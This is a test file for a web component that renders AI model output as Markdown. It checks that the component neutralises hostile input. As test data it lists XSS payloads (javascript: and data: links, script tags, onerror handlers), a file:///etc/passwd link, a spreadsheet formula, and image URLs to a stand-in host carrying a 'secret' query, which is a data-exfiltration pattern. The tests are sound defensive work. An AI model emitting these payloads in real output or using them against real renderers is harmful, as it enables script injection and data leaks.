// @vitest-environment happy-dom
import { cleanup, fireEvent, screen, within } from '@testing-library/react'
import { afterEach, describe, expect, it, vi } from 'vitest'
import { renderPage } from '@/components/providers/__fixtures__/render-page'
import { Markdown } from './markdown'

afterEach(cleanup)

function show(text: string) {
  return renderPage(<Markdown text={text} idPrefix="run" />).container
}

describe('Markdown of a model', () => {
  it.each([
    ['![a chart](https://evil.example/p.png?q=secret)', 'Image: a chart'],
    ['![](https://evil.example/p.png)', 'Image: without a description'],
  ])('makes a link of the image %s and fetches nothing', (text, name) => {
    const container = show(text)
    const link = screen.getByRole('link', { name })
    expect(link.getAttribute('href')).toMatch(/^https:\/\/evil\.example/)
    expect(container.querySelector('img, picture, svg image, source')).toBeNull()
  })

  it.each([
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](java&#10;script:alert(1))',
    '[x](data:text/html,<script>alert(1)</script>)',
    '[x](vbscript:msgbox)',
    '[x](file:///etc/passwd)',
    '[x](blob:https://a/b)',
    '[x](//evil.example)',
    '[x](/api/runs/1/stop)',
    '![x](data:image/svg+xml,<svg onload=alert(1)>)',
    '<javascript:alert(1)>',
  ])('makes %s inert', (text) => {
    const container = show(text)
    expect(container.querySelector('[href], [src]')).toBeNull()
    expect(container.textContent).not.toBe('')
  })

  it('opens links of a page apart, and tells them nothing', () => {
    show('[docs](https://docs.vllm.ai/en)')
    const link = screen.getByRole('link', { name: 'docs' })
    expect(link.getAttribute('rel')).toBe('noopener noreferrer nofollow')
    expect(link.getAttribute('target')).toBe('_blank')
  })

  it.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    'a <b onclick="alert(1)">b</b>',
    '<iframe src="https://evil.example"></iframe>',
    '<style>body{display:none}</style>',
    '<a href="https://evil.example">x</a>',
    '<svg><script href="https://evil.example"/></svg>',
  ])('shows raw HTML as text: %s', (text) => {
    const container = show(text)
    expect(container.querySelector('script, img, b, iframe, style, a, svg')).toBeNull()
    expect(container.textContent).toContain('<')
  })

  it('names the language of a code block, keeps its text and offers to copy it', () => {
    const container = show('```python\nprint("hi")\n\nx = 1\n```')
    const block = within(container)
    expect(block.getByText('python')).toBeTruthy()
    expect(block.getByRole('button', { name: 'Copy code' })).toBeTruthy()
    expect(container.querySelector('pre')?.textContent).toBe('print("hi")\n\nx = 1')
  })

  it('calls a code block without a language text', () => {
    show('```\nplain\n```')
    expect(screen.getByText('text')).toBeTruthy()
  })

  it('lets a wide table scroll by itself, by keyboard too', () => {
    show('| a | b |\n| --- | --- |\n| 1 | 2 |')
    const region = screen.getByRole('figure', { name: 'Table' })
    expect(region.getAttribute('tabindex')).toBe('0')
    expect(
      within(region)
        .getAllByRole('cell')
        .map((cell) => cell.textContent),
    ).toEqual(['1', '2'])
  })

  it('breaks no short cell, in letters of any width, and long ones late', () => {
    show('| Weights | Note |\n| --- | --- |\n| AWQ, 4 bits | 量化后显存更小但吞吐不变 |')
    const classOf = (name: string) => screen.getByRole('cell', { name }).className
    expect(classOf('AWQ, 4 bits')).toBe('whitespace-nowrap')
    expect(classOf('量化后显存更小但吞吐不变')).toBe('min-w-40')
  })

  it('copies a table as CSV that no spreadsheet runs', async () => {
    const writeText = vi.fn(async () => undefined)
    vi.stubGlobal('navigator', { ...navigator, clipboard: { writeText } })
    show('| a | **b** |\n| --- | --- |\n| 1 | `=1+1` |\n| x, y | -2 |')
    fireEvent.click(screen.getByRole('button', { name: 'Copy as CSV' }))
    expect(writeText).toHaveBeenCalledWith('a,b\r\n1,\'=1+1\r\n"x, y",-2\r\n')
    vi.unstubAllGlobals()
  })

  it('shows a line of absurd length as the text that it is', () => {
    const container = show(`A **bold** start.\n\n${'**word** '.repeat(12_000)}`)
    expect(container.querySelectorAll('strong')).toHaveLength(1)
    expect(container.textContent).toContain('**word** **word**')
  })

  it('finds the address of a link in another block', () => {
    show('See [it][1].\n\nMore.\n\n[1]: https://example.org/one\n')
    expect(screen.getByRole('link', { name: 'it' }).getAttribute('href')).toBe(
      'https://example.org/one',
    )
  })

  it('makes no heading while its words have not come', () => {
    for (const text of ['# ', '##', 'Text\n\n### ', '#### ']) {
      expect(show(text).querySelector('h3, h4')).toBeNull()
    }
  })

  it('leaves the first two levels of headings to the page', () => {
    show('# One\n\n## Two\n\n### Three')
    expect(screen.queryByRole('heading', { level: 1 })).toBeNull()
    expect(screen.queryByRole('heading', { level: 2 })).toBeNull()
    expect(screen.getByRole('heading', { level: 3, name: 'One' })).toBeTruthy()
  })
})
